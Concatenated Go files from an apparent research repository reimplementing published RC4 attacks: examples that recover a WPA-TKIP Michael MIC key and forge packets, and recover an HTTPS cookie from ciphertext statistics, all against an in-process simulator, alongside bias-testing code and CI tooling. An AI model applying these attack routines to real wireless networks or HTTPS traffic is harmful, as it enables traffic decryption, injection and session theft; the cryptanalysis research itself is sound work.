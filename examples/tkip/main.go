// TKIP example: a compact end-to-end run of the §5 WPA-TKIP attack against
// the in-process network simulator — train a per-TSC model, capture
// encryptions of an injected packet, decrypt its MIC+ICV trailer via the
// ICV-pruned candidate list, recover the Michael MIC key, and forge a
// packet the network accepts. (cmd/tkipattack is the fully flagged tool;
// this example uses fixed small parameters so it runs in well under a
// minute.)
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/rc4"
	"rc4break/internal/tkip"
)

func main() {
	msduLen := packet.HeaderSize + 7 // the paper's 7-byte-payload packet
	positions := tkip.TrailerPositions(msduLen)

	fmt.Println("training per-TSC keystream model (scaled down)...")
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  positions[len(positions)-1],
		KeysPerTSC: 1 << 11,
	})
	if err != nil {
		panic(err)
	}

	session := &tkip.Session{
		TK:     [16]byte{0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12},
		MICKey: [8]byte{0x13, 0x37, 0xc0, 0xde, 0xf0, 0x0d, 0xbe, 0xef},
		TA:     [6]byte{0, 1, 2, 3, 4, 5},
		DA:     [6]byte{6, 7, 8, 9, 10, 11},
		SA:     [6]byte{12, 13, 14, 15, 16, 17},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))

	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		panic(err)
	}
	// The true trailer the simulation re-encrypts (model mode).
	f := session.Encapsulate(victim.MSDU, 0)
	key := tkip.MixKey(session.TK, session.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	trailer := plain[msduLen:]

	const copies = 6 << 20
	fmt.Printf("capturing %d encrypted copies of the injected packet...\n", copies)
	if err := attack.SimulateCaptures(rand.New(rand.NewSource(1)), trailer, copies); err != nil {
		panic(err)
	}

	fmt.Println("walking candidate list, pruning by ICV...")
	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, 1<<18)
	if err != nil {
		fmt.Println("attack failed this run:", err)
		return
	}
	fmt.Printf("correct ICV at candidate %d; recovered MIC key %x (real %x)\n",
		depth, micKey, session.MICKey)

	forged := (&tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA,
		DA: session.DA, SA: session.SA}).Encapsulate([]byte("owned by rc4break - forged traffic"), 0xBEEF)
	if _, err := session.Decapsulate(forged); err == nil {
		fmt.Println("forged packet accepted: attacker can now inject and decrypt traffic")
	}
}
