// HTTPS cookie example: the §6 attack in miniature — craft the Listing-3
// aligned request, collect ciphertext statistics at paper scale in model
// mode (sufficient-statistic sampling is O(1) in the ciphertext count),
// generate the charset-restricted candidate list, and brute-force the
// secure cookie against the simulated server.
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
)

func main() {
	const secret = "S3cretAuthToken/"

	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		panic(err)
	}
	fmt.Printf("aligned request: cookie at offset %d, %d bytes total\n",
		req.CookieOffset(), len(req.Marshal()))

	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		panic(err)
	}

	const ciphertexts = 9 << 27 // the paper's 94%-success operating point
	fmt.Printf("collecting %d ciphertext copies (~%.0f hours of live traffic at %d req/s)...\n",
		uint64(ciphertexts), float64(ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(9)), []byte(secret), ciphertexts); err != nil {
		panic(err)
	}

	server := &netsim.CookieServer{Secret: []byte(secret)}
	fmt.Println("brute-forcing candidate list against the server...")
	cookie, rank, err := attack.BruteForce(1<<16, server.Check)
	if err != nil {
		fmt.Println("cookie not found this run:", err)
		return
	}
	fmt.Printf("recovered cookie %q at candidate rank %d after %d server checks\n",
		cookie, rank, server.Attempts)
	fmt.Printf("(%d checks take %.1f s at the paper's %d tests/s)\n",
		server.Attempts, float64(server.Attempts)/netsim.BruteForceTestsPerSecond,
		netsim.BruteForceTestsPerSecond)
}
