// Biashunt example: the §3 methodology end to end — generate keystream
// statistics with parallel workers, then run the hypothesis-test pipeline
// (chi-squared uniformity per position, M-test for pair dependence, Holm
// correction) to *discover* biases rather than assume them.
package main

import (
	"fmt"

	"rc4break/internal/dataset"
	"rc4break/internal/stats"
)

func main() {
	const keys = 1 << 19
	fmt.Printf("generating %d keystreams (16-byte random keys)...\n", uint64(keys))

	obs, err := dataset.Run(dataset.Config{Keys: keys}, func() dataset.Observer {
		m := &dataset.Multi{}
		m.Observers = append(m.Observers,
			dataset.NewSingleByteCounts(32),
			dataset.NewDigraphCounts(2),
		)
		return m
	})
	if err != nil {
		panic(err)
	}
	multi := obs.(*dataset.Multi)
	single := multi.Observers[0].(*dataset.SingleByteCounts)
	digraph := multi.Observers[1].(*dataset.DigraphCounts)

	// Single-byte pass: chi-squared per position, Holm-corrected.
	pvals := make([]float64, single.Positions)
	for pos := 1; pos <= single.Positions; pos++ {
		r, err := stats.ChiSquareUniform(single.Position(pos))
		if err != nil {
			panic(err)
		}
		pvals[pos-1] = r.P
	}
	adj := stats.HolmCorrection(pvals)
	fmt.Println("single-byte uniformity rejections (family-wise p < 1e-4):")
	for pos := 1; pos <= single.Positions; pos++ {
		if adj[pos-1] < stats.SignificanceLevel {
			top, dev := strongestCell(single.Position(pos), single.Keys)
			fmt.Printf("  Z%-3d biased (p=%.1e), strongest value %d (%+.3f relative)\n",
				pos, adj[pos-1], top, dev)
		}
	}

	// Pair pass: M-test on (Z1, Z2) — the Paul-Preneel dependency should
	// surface, which the chi-squared independence test would struggle to
	// pin on its few outlying cells.
	r, err := stats.MTest(digraph.Table(1), 256)
	if err != nil {
		panic(err)
	}
	fmt.Printf("(Z1,Z2) M-test: statistic %.2f, p = %.2e -> dependent: %v\n",
		r.Statistic, r.P, r.Rejected())
}

// strongestCell returns the value with the largest absolute relative
// deviation from uniform, and that (signed) deviation.
func strongestCell(counts []uint64, keys uint64) (int, float64) {
	u := float64(keys) / 256
	best, bestDev := 0, 0.0
	for v, c := range counts {
		dev := (float64(c) - u) / u
		abs := dev
		if abs < 0 {
			abs = -abs
		}
		if cur := bestDev; cur < 0 {
			cur = -cur
			if abs > cur {
				best, bestDev = v, dev
			}
		} else if abs > cur {
			best, bestDev = v, dev
		}
	}
	return best, bestDev
}
