// Quickstart: generate RC4 keystream, see the Mantin–Shamir Z2 bias with
// your own eyes, and decrypt a repeated plaintext byte from ciphertexts
// alone — the smallest possible demonstration of the broadcast-attack idea
// that the whole paper builds on.
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/dataset"
	"rc4break/internal/rc4"
	"rc4break/internal/recovery"
)

func main() {
	// 1. RC4 is a handful of lines — and its output is measurably skewed.
	c := rc4.MustNew([]byte("an example key!!"))
	ks := make([]byte, 8)
	c.Keystream(ks)
	fmt.Printf("keystream bytes: % x\n", ks)

	// 2. The second keystream byte is zero twice as often as it should be.
	const keys = 1 << 18
	src := dataset.NewKeySource([16]byte{1}, 0)
	key := make([]byte, 16)
	buf := make([]byte, 2)
	zeros := 0
	for i := 0; i < keys; i++ {
		src.NextKey(key)
		rc4.MustNew(key).Keystream(buf)
		if buf[1] == 0 {
			zeros++
		}
	}
	fmt.Printf("Pr[Z2 = 0] = %.5f (uniform would be %.5f, Mantin-Shamir predicts %.5f)\n",
		float64(zeros)/keys, 1.0/256, 2.0/256)

	// 3. That bias decrypts traffic: if the same plaintext byte is
	// encrypted at position 2 under many keys, the most common ciphertext
	// value IS the plaintext (C = P xor Z2, and Z2 loves zero).
	secret := byte('!')
	var counts [256]uint64
	src2 := dataset.NewKeySource([16]byte{2}, 0)
	for i := 0; i < keys; i++ {
		src2.NextKey(key)
		rc4.MustNew(key).Keystream(buf)
		counts[buf[1]^secret]++
	}
	// Use the recovery machinery with the known Z2 distribution shape.
	dist := make([]float64, 256)
	for v := range dist {
		dist[v] = (1.0 - 2.0/256) / 255
	}
	dist[0] = 2.0 / 256
	lk, err := recovery.SingleByteLikelihoods(&counts, dist)
	if err != nil {
		panic(err)
	}
	fmt.Printf("recovered plaintext byte at position 2: %q (truth %q)\n", lk.Best(), secret)

	_ = rand.Int // examples keep math/rand for easy experimentation
}
