// Command promlint validates Prometheus text-exposition output — the CI
// smoke gate over the daemons' live /metrics endpoints. It accepts files or
// http:// URLs, parses every line strictly, and enforces both the format's
// rules and this repo's renderer invariants:
//
//   - every sample line parses: metric name, well-formed label set (escaped
//     values), float value (including NaN/+Inf/-Inf spellings)
//   - every sample belongs to the family most recently declared by # TYPE
//     (histograms may extend the name with _bucket/_sum/_count)
//   - each family has exactly one # HELP and one # TYPE, in that order,
//     with a known type
//   - families render in sorted order and no series repeats — the
//     determinism contract internal/metrics.Render promises
//   - histograms are internally consistent: le buckets sorted and
//     cumulative, a +Inf bucket present and equal to _count
//
// -min-histograms N additionally fails unless at least N histogram
// families are present (the observability acceptance floor).
//
//	go run ./scripts/promlint -min-histograms 3 http://127.0.0.1:7200/metrics
package main

import (
	"flag"
	"fmt"
	"io"
	"math"
	"net/http"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

var (
	nameRe  = regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*$`)
	labelRe = regexp.MustCompile(`^[a-zA-Z_][a-zA-Z0-9_]*$`)
)

func main() {
	minHistograms := flag.Int("min-histograms", 0, "fail unless at least this many histogram families are present")
	flag.Parse()
	if flag.NArg() == 0 {
		fmt.Fprintln(os.Stderr, "usage: promlint [-min-histograms N] <file-or-url>...")
		os.Exit(2)
	}
	failed := false
	for _, arg := range flag.Args() {
		text, err := read(arg)
		if err != nil {
			fmt.Fprintf(os.Stderr, "promlint: %s: %v\n", arg, err)
			failed = true
			continue
		}
		errs, histograms := lint(text)
		for _, e := range errs {
			fmt.Fprintf(os.Stderr, "promlint: %s: %s\n", arg, e)
		}
		if len(errs) > 0 {
			failed = true
		}
		if *minHistograms > 0 && histograms < *minHistograms {
			fmt.Fprintf(os.Stderr, "promlint: %s: %d histogram families, want >= %d\n", arg, histograms, *minHistograms)
			failed = true
		}
		if len(errs) == 0 {
			fmt.Printf("promlint: %s: ok (%d histogram families)\n", arg, histograms)
		}
	}
	if failed {
		os.Exit(1)
	}
}

func read(arg string) (string, error) {
	if strings.HasPrefix(arg, "http://") || strings.HasPrefix(arg, "https://") {
		resp, err := http.Get(arg)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return "", fmt.Errorf("http %d", resp.StatusCode)
		}
		b, err := io.ReadAll(resp.Body)
		return string(b), err
	}
	b, err := os.ReadFile(arg)
	return string(b), err
}

// family accumulates one metric family's declared metadata and samples.
type family struct {
	name    string
	typ     string
	help    bool
	samples []sample
}

type sample struct {
	name   string
	labels string // canonical sorted label string, le excluded for buckets
	le     string
	value  float64
	line   int
}

func lint(text string) (errs []string, histograms int) {
	bad := func(line int, format string, args ...any) {
		errs = append(errs, fmt.Sprintf("line %d: %s", line, fmt.Sprintf(format, args...)))
	}
	var families []*family
	var cur *family
	seen := map[string]int{} // family name -> first line
	series := map[string]int{}
	for i, line := range strings.Split(text, "\n") {
		n := i + 1
		if line == "" {
			continue
		}
		switch {
		case strings.HasPrefix(line, "# HELP "):
			rest := strings.TrimPrefix(line, "# HELP ")
			name, _, ok := strings.Cut(rest, " ")
			if !ok || !nameRe.MatchString(name) {
				bad(n, "malformed HELP line %q", line)
				continue
			}
			if at, dup := seen[name]; dup {
				bad(n, "family %s re-declared (first at line %d)", name, at)
				continue
			}
			seen[name] = n
			cur = &family{name: name, help: true}
			families = append(families, cur)
		case strings.HasPrefix(line, "# TYPE "):
			fields := strings.Fields(strings.TrimPrefix(line, "# TYPE "))
			if len(fields) != 2 {
				bad(n, "malformed TYPE line %q", line)
				continue
			}
			name, typ := fields[0], fields[1]
			switch typ {
			case "counter", "gauge", "histogram", "summary", "untyped":
			default:
				bad(n, "unknown metric type %q for %s", typ, name)
			}
			if cur == nil || cur.name != name {
				bad(n, "TYPE for %s without a preceding HELP", name)
				cur = &family{name: name}
				families = append(families, cur)
			}
			cur.typ = typ
		case strings.HasPrefix(line, "#"):
			// other comments are legal and ignored
		default:
			s, err := parseSample(line)
			if err != nil {
				bad(n, "%v", err)
				continue
			}
			s.line = n
			if cur == nil {
				bad(n, "sample %s before any family declaration", s.name)
				continue
			}
			base := s.name
			if cur.typ == "histogram" {
				base = strings.TrimSuffix(base, "_bucket")
				base = strings.TrimSuffix(base, "_sum")
				base = strings.TrimSuffix(base, "_count")
			}
			if base != cur.name {
				bad(n, "sample %s outside its family block (current family %s)", s.name, cur.name)
				continue
			}
			key := s.name + "{" + s.labels + `,le="` + s.le + `"}`
			if at, dup := series[key]; dup {
				bad(n, "duplicate series %s (first at line %d)", key, at)
			}
			series[key] = n
			cur.samples = append(cur.samples, s)
		}
	}

	names := make([]string, 0, len(families))
	for _, f := range families {
		names = append(names, f.name)
		if !f.help {
			errs = append(errs, fmt.Sprintf("family %s has no HELP line", f.name))
		}
		if f.typ == "" {
			errs = append(errs, fmt.Sprintf("family %s has no TYPE line", f.name))
		}
		if f.typ == "histogram" {
			histograms++
			errs = append(errs, lintHistogram(f)...)
		}
	}
	if !sort.StringsAreSorted(names) {
		errs = append(errs, fmt.Sprintf("families not rendered in sorted order: %v", names))
	}
	return errs, histograms
}

// parseSample parses one sample line into name, canonical labels (minus the
// le label, returned separately), and value.
func parseSample(line string) (sample, error) {
	var s sample
	rest := line
	brace := strings.IndexByte(rest, '{')
	sp := strings.IndexByte(rest, ' ')
	if brace >= 0 && (sp < 0 || brace < sp) {
		s.name = rest[:brace]
		end, labels, err := parseLabels(rest[brace:])
		if err != nil {
			return s, fmt.Errorf("sample %q: %v", line, err)
		}
		for _, l := range labels {
			if l.name == "le" {
				s.le = l.value
			}
		}
		var parts []string
		for _, l := range labels {
			if l.name != "le" {
				parts = append(parts, l.name+`=`+strconv.Quote(l.value))
			}
		}
		sort.Strings(parts)
		s.labels = strings.Join(parts, ",")
		rest = rest[brace+end:]
	} else {
		if sp < 0 {
			return s, fmt.Errorf("sample %q: no value", line)
		}
		s.name = rest[:sp]
		rest = rest[sp:]
	}
	if !nameRe.MatchString(s.name) {
		return s, fmt.Errorf("sample %q: bad metric name %q", line, s.name)
	}
	rest = strings.TrimSpace(rest)
	// A timestamp after the value is legal; our renderer never emits one,
	// but tolerate it for generality.
	valStr, _, _ := strings.Cut(rest, " ")
	v, err := parseValue(valStr)
	if err != nil {
		return s, fmt.Errorf("sample %q: bad value %q", line, valStr)
	}
	s.value = v
	return s, nil
}

type label struct{ name, value string }

// parseLabels parses a {name="value",...} block starting at s[0] == '{',
// returning the index just past the closing brace.
func parseLabels(s string) (end int, labels []label, err error) {
	i := 1 // past '{'
	for {
		if i >= len(s) {
			return 0, nil, fmt.Errorf("unterminated label block")
		}
		if s[i] == '}' {
			return i + 1, labels, nil
		}
		j := i
		for j < len(s) && s[j] != '=' {
			j++
		}
		if j >= len(s) {
			return 0, nil, fmt.Errorf("label without value")
		}
		name := s[i:j]
		if !labelRe.MatchString(name) {
			return 0, nil, fmt.Errorf("bad label name %q", name)
		}
		if j+1 >= len(s) || s[j+1] != '"' {
			return 0, nil, fmt.Errorf("label %s: unquoted value", name)
		}
		var val strings.Builder
		k := j + 2
		for {
			if k >= len(s) {
				return 0, nil, fmt.Errorf("label %s: unterminated value", name)
			}
			c := s[k]
			if c == '"' {
				k++
				break
			}
			if c == '\\' {
				if k+1 >= len(s) {
					return 0, nil, fmt.Errorf("label %s: dangling escape", name)
				}
				switch s[k+1] {
				case '\\':
					val.WriteByte('\\')
				case '"':
					val.WriteByte('"')
				case 'n':
					val.WriteByte('\n')
				default:
					return 0, nil, fmt.Errorf("label %s: invalid escape \\%c", name, s[k+1])
				}
				k += 2
				continue
			}
			if c == '\n' {
				return 0, nil, fmt.Errorf("label %s: raw newline in value", name)
			}
			val.WriteByte(c)
			k++
		}
		labels = append(labels, label{name, val.String()})
		i = k
		if i < len(s) && s[i] == ',' {
			i++
		}
	}
}

func parseValue(s string) (float64, error) {
	switch s {
	case "NaN":
		return math.NaN(), nil
	case "+Inf":
		return math.Inf(1), nil
	case "-Inf":
		return math.Inf(-1), nil
	}
	return strconv.ParseFloat(s, 64)
}

// lintHistogram checks the bucket/sum/count consistency of one histogram
// family, per distinct non-le label set.
func lintHistogram(f *family) (errs []string) {
	type group struct {
		les    []string
		counts map[string]float64
		count  float64
		hasCnt bool
	}
	groups := map[string]*group{}
	for _, s := range f.samples {
		g := groups[s.labels]
		if g == nil {
			g = &group{counts: map[string]float64{}}
			groups[s.labels] = g
		}
		switch {
		case strings.HasSuffix(s.name, "_bucket"):
			g.les = append(g.les, s.le)
			g.counts[s.le] = s.value
		case strings.HasSuffix(s.name, "_count"):
			g.count = s.value
			g.hasCnt = true
		}
	}
	keys := make([]string, 0, len(groups))
	for k := range groups {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		g := groups[k]
		where := f.name
		if k != "" {
			where += "{" + k + "}"
		}
		if len(g.les) == 0 {
			errs = append(errs, fmt.Sprintf("histogram %s has no buckets", where))
			continue
		}
		if g.les[len(g.les)-1] != "+Inf" {
			errs = append(errs, fmt.Sprintf("histogram %s: last bucket le=%q, want +Inf", where, g.les[len(g.les)-1]))
		}
		prevBound := math.Inf(-1)
		prevCount := 0.0
		for _, le := range g.les {
			bound, err := parseValue(le)
			if err != nil {
				errs = append(errs, fmt.Sprintf("histogram %s: bad le %q", where, le))
				continue
			}
			if bound <= prevBound {
				errs = append(errs, fmt.Sprintf("histogram %s: le %q out of order", where, le))
			}
			if g.counts[le] < prevCount {
				errs = append(errs, fmt.Sprintf("histogram %s: bucket le=%q count %g below previous %g (not cumulative)",
					where, le, g.counts[le], prevCount))
			}
			prevBound, prevCount = bound, g.counts[le]
		}
		if g.hasCnt && g.counts["+Inf"] != g.count {
			errs = append(errs, fmt.Sprintf("histogram %s: +Inf bucket %g != _count %g", where, g.counts["+Inf"], g.count))
		}
		if !g.hasCnt {
			errs = append(errs, fmt.Sprintf("histogram %s has no _count", where))
		}
	}
	return errs
}
