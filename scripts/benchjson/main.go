// Command benchjson converts `go test -bench` text output on stdin to
// machine-readable JSON on stdout, so CI bench runs accumulate as diffable
// perf-trajectory files:
//
//	go test -run '^$' -bench . -benchmem -benchtime 1x ./... | tee bench.txt
//	go run ./scripts/benchjson < bench.txt > BENCH_pr3.json
package main

import (
	"fmt"
	"os"

	"rc4break/internal/cliutil"
)

func main() {
	if err := cliutil.WriteBenchJSON(os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}
