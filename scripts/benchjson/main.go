// Command benchjson converts `go test -bench` text output on stdin to
// machine-readable JSON on stdout, so CI bench runs accumulate as diffable
// perf-trajectory files:
//
//	go test -run '^$' -bench . -benchmem -benchtime 1x ./... | tee bench.txt
//	go run ./scripts/benchjson < bench.txt > BENCH_pr5.json
//
// -min collapses `-count N` repeats to the fastest run per benchmark — the
// statistic the keystream perf gate diffs. Input containing no benchmark
// lines at all is an error (exit 1), never an empty JSON document: a bench
// step whose output vanished is a broken bench step.
package main

import (
	"flag"
	"fmt"
	"os"

	"rc4break/internal/cliutil"
)

func main() {
	minRuns := flag.Bool("min", false, "collapse -count N repeats to the minimum ns/op per benchmark")
	flag.Parse()
	if err := cliutil.WriteBenchJSON(os.Stdin, os.Stdout, *minRuns); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}
