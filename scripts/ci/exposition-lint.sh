#!/bin/sh
# exposition-lint.sh
#
# CI smoke gate over the daemons' live observability surface: start attackd
# and fleetd on loopback, wait for their health endpoints, scrape /metrics,
# and validate the exposition text with scripts/promlint — including the
# acceptance floor of at least 3 histogram families per daemon. Also probes
# /debug/trace and /debug/trace/chrome so a broken debug mount fails here.
#
# Expects bin/attackd and bin/fleetd to be built (the CI step does this).
set -eu

ATTACKD_ADDR=127.0.0.1:17200
FLEETD_HTTP=127.0.0.1:17101
tmp=$(mktemp -d)

cleanup() {
    kill "$attackd_pid" "$fleetd_pid" 2>/dev/null || true
    wait "$attackd_pid" "$fleetd_pid" 2>/dev/null || true
    rm -rf "$tmp"
}
trap cleanup EXIT

bin/attackd -listen "$ATTACKD_ADDR" -store "$tmp/store" >"$tmp/attackd.log" 2>&1 &
attackd_pid=$!
bin/fleetd -listen 127.0.0.1:17100 -http "$FLEETD_HTTP" -attack cookie >"$tmp/fleetd.log" 2>&1 &
fleetd_pid=$!

wait_healthy() {
    url=$1
    for _ in $(seq 1 50); do
        if curl -fsS "$url" >/dev/null 2>&1; then
            return 0
        fi
        sleep 0.2
    done
    echo "daemon at $url never became healthy" >&2
    cat "$tmp"/*.log >&2
    return 1
}
wait_healthy "http://$ATTACKD_ADDR/healthz"
wait_healthy "http://$FLEETD_HTTP/healthz"

# The debug surface must answer: NDJSON journal and a Chrome trace document.
curl -fsS "http://$ATTACKD_ADDR/debug/trace" >/dev/null
curl -fsS "http://$ATTACKD_ADDR/debug/trace/chrome" | grep -q traceEvents
curl -fsS "http://$FLEETD_HTTP/debug/trace" >/dev/null
curl -fsS "http://$FLEETD_HTTP/debug/trace/chrome" | grep -q traceEvents

curl -fsS "http://$ATTACKD_ADDR/metrics" >"$tmp/attackd.metrics"
curl -fsS "http://$FLEETD_HTTP/metrics" >"$tmp/fleetd.metrics"
go run ./scripts/promlint -min-histograms 3 "$tmp/attackd.metrics" "$tmp/fleetd.metrics"
