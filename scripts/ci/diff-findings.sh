#!/bin/sh
# diff-findings.sh <baseline> <current>
#
# Fail-on-new-only gate for third-party analyzers: exits nonzero iff
# <current> contains a line absent from <baseline>. Comment (#) and blank
# lines in the baseline are ignored. Baselined findings that no longer
# occur are reported as stale (clean them up) but do not fail the run.
#
# Regenerate a baseline by running the tool and committing its output:
#   staticcheck ./... > ci/staticcheck-baseline.txt
set -eu

baseline=$1
current=$2

tmp_base=$(mktemp)
tmp_cur=$(mktemp)
trap 'rm -f "$tmp_base" "$tmp_cur"' EXIT

grep -v '^[[:space:]]*#' "$baseline" | grep -v '^[[:space:]]*$' | sort -u > "$tmp_base" || true
grep -v '^[[:space:]]*$' "$current" | sort -u > "$tmp_cur" || true

stale=$(comm -23 "$tmp_base" "$tmp_cur" || true)
if [ -n "$stale" ]; then
    echo "stale baseline entries (no longer reported — remove from $baseline):"
    echo "$stale" | sed 's/^/  /'
fi

new=$(comm -13 "$tmp_base" "$tmp_cur" || true)
if [ -n "$new" ]; then
    echo "NEW findings (not in $baseline):" >&2
    echo "$new" | sed 's/^/  /' >&2
    exit 1
fi

echo "no new findings vs $baseline"
