// Command benchdiff compares two bench-JSON files (the scripts/benchjson /
// cliutil.ParseBenchOutput format) and prints per-benchmark ns/op deltas,
// worst regression first. With a nonzero -threshold it exits 1 when any
// benchmark regressed beyond it — CI wires it warn-only against the
// committed BENCH_*.json baseline, so perf drift is visible on every run
// without blocking merges on a noisy shared runner:
//
//	go run ./scripts/benchdiff -threshold 0.25 BENCH_pr3.json bench.json
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"rc4break/internal/cliutil"
)

func main() {
	threshold := flag.Float64("threshold", 0.25, "fractional ns/op regression that fails the diff (0 disables the gate)")
	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: benchdiff [-threshold F] baseline.json current.json\n")
		flag.PrintDefaults()
	}
	flag.Parse()
	if flag.NArg() != 2 {
		flag.Usage()
		os.Exit(2)
	}

	baseline, err := readBench(flag.Arg(0))
	if err != nil {
		fatal(err)
	}
	current, err := readBench(flag.Arg(1))
	if err != nil {
		fatal(err)
	}
	deltas, onlyBase, onlyCur := cliutil.DiffBench(baseline, current)
	regressions := cliutil.FormatBenchDiff(os.Stdout, deltas, onlyBase, onlyCur, *threshold)
	if regressions > 0 {
		fmt.Printf("%d benchmark(s) regressed more than %.0f%% vs %s\n", regressions, 100**threshold, flag.Arg(0))
		os.Exit(1)
	}
}

func readBench(path string) ([]cliutil.BenchResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var results []cliutil.BenchResult
	if err := json.NewDecoder(f).Decode(&results); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	return results, nil
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "benchdiff:", err)
	os.Exit(1)
}
