// Command benchdiff compares two bench-JSON files (the scripts/benchjson /
// cliutil.ParseBenchOutput format) and prints per-benchmark ns/op deltas,
// worst regression first. With a nonzero -threshold it exits 1 when any
// benchmark regressed beyond it — CI wires the module-wide diff warn-only
// against the committed BENCH_*.json baseline, so perf drift is visible on
// every run without blocking merges on a noisy shared runner:
//
//	go run ./scripts/benchdiff -threshold 0.25 BENCH_pr5.json bench.json
//
// With -gate the diff becomes a real CI gate over an allowlisted benchmark
// family: only benchmarks whose name matches the regexp are compared, a
// regression beyond -threshold fails, and so does a gated benchmark that is
// present in the baseline but missing from the current run (a gate that
// stops measuring must not silently pass). -min collapses `-count N`
// repeats to the fastest run on both sides before diffing:
//
//	go run ./scripts/benchdiff -gate 'Keystream|Skip' -min -threshold 0.6 BENCH_pr5.json bench.json
//
// The -gate family has a static sibling: scripts/bcecheck compiles the same
// internal/rc4 kernels with -d=ssa/check_bce and fails CI when a bounds
// check drifts from its committed allowlist — catching at compile time the
// hot-loop regressions this gate would otherwise only see as a throughput
// drop (and catching them even when they hide inside runner noise).
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"regexp"

	"rc4break/internal/cliutil"
)

func main() {
	threshold := flag.Float64("threshold", 0.25, "fractional ns/op regression that fails the diff (0 disables the gate)")
	gate := flag.String("gate", "", "benchmark-name regexp: compare only this family, fail on regression or on a gated benchmark missing from current")
	minRuns := flag.Bool("min", false, "collapse -count N repeats to the minimum ns/op per benchmark before diffing")
	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: benchdiff [-threshold F] [-gate REGEXP] [-min] baseline.json current.json\n")
		flag.PrintDefaults()
	}
	flag.Parse()
	if flag.NArg() != 2 {
		flag.Usage()
		os.Exit(2)
	}

	baseline, err := readBench(flag.Arg(0))
	if err != nil {
		fatal(err)
	}
	current, err := readBench(flag.Arg(1))
	if err != nil {
		fatal(err)
	}
	if *minRuns {
		baseline = cliutil.MinBench(baseline)
		current = cliutil.MinBench(current)
	}
	gated := *gate != ""
	if gated {
		re, err := regexp.Compile(*gate)
		if err != nil {
			fatal(fmt.Errorf("bad -gate regexp: %w", err))
		}
		baseline = cliutil.FilterBench(baseline, re)
		current = cliutil.FilterBench(current, re)
		if len(baseline) == 0 {
			fatal(fmt.Errorf("gate %q matches nothing in baseline %s — misconfigured gate", *gate, flag.Arg(0)))
		}
	}
	deltas, onlyBase, onlyCur := cliutil.DiffBench(baseline, current)
	regressions := cliutil.FormatBenchDiff(os.Stdout, deltas, onlyBase, onlyCur, *threshold)
	failed := false
	if regressions > 0 {
		fmt.Printf("%d benchmark(s) regressed more than %.0f%% vs %s\n", regressions, 100**threshold, flag.Arg(0))
		failed = true
	}
	if gated && len(onlyBase) > 0 {
		fmt.Printf("%d gated benchmark(s) missing from current run\n", len(onlyBase))
		failed = true
	}
	if failed {
		os.Exit(1)
	}
}

func readBench(path string) ([]cliutil.BenchResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var results []cliutil.BenchResult
	if err := json.NewDecoder(f).Decode(&results); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	return results, nil
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "benchdiff:", err)
	os.Exit(1)
}
