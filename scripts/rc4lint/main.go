// rc4lint is the repository's determinism lint driver: a `go vet -vettool`
// compatible binary running the internal/analysis suite (rc4nondet,
// rc4goroutine, rc4gob, rc4floatfold) over every package in the module.
//
// Build and run:
//
//	go build -o bin/rc4lint ./scripts/rc4lint
//	go vet -vettool=bin/rc4lint ./...
//
// The driver speaks cmd/go's vet protocol from the standard library alone
// (the golang.org/x/tools unitchecker is deliberately not a dependency): for
// each package, cmd/go hands it a JSON config file naming the Go sources,
// the import map, and the export-data file of every dependency; the driver
// parses and type-checks the package with go/parser + go/types (imports
// resolved through the gc export data via go/importer) and runs the
// analyzers. Diagnostics go to stderr in the usual file:line:col form and a
// nonzero exit makes `go vet` fail the build.
//
// The suite needs no cross-package facts, so fact files (.vetx) are written
// empty, and fact-only invocations (VetxOnly) are no-ops.
package main

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"runtime"
	"sort"
	"strings"

	"rc4break/internal/analysis"
)

// vetConfig mirrors the JSON config cmd/go writes for vet tools (the same
// shape unitchecker.Config decodes).
type vetConfig struct {
	ID                        string
	Compiler                  string
	Dir                       string
	ImportPath                string
	GoVersion                 string
	GoFiles                   []string
	NonGoFiles                []string
	IgnoredFiles              []string
	ImportMap                 map[string]string
	PackageFile               map[string]string
	Standard                  map[string]bool
	PackageVetx               map[string]string
	VetxOnly                  bool
	VetxOutput                string
	SucceedOnTypecheckFailure bool
}

func main() {
	progname := "rc4lint"
	var cfgFile string
